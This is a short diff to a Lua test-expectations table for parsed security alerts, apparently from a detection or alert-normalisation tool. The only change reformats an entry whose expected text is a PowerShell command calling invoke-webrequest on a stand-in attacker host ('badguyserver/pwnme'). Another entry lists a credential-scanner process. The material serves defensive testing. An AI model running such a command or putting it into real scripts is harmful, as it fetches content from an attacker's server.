@@ -82,7 +82,8 @@ local EXPECTED = {
   },
   ["microsoft/graph_v1_suspicious_powershell.json"] = { kind = "interpreter", name = "PowerShell" },
   ["microsoft/sentinel_securityalert_asc_suspicious_powershell.json"] = {
-    kind = "command", text = "invoke-expression get-process; invoke-webrequest -uri http://badguyserver/pwnme",
+    kind = "command",
+    text = "invoke-expression get-process; invoke-webrequest -uri http://badguyserver/pwnme",
   },
   ["sigma/hit_node_credential_scanner.json"] = {
     kind = "child", name = "trufflehog.exe",
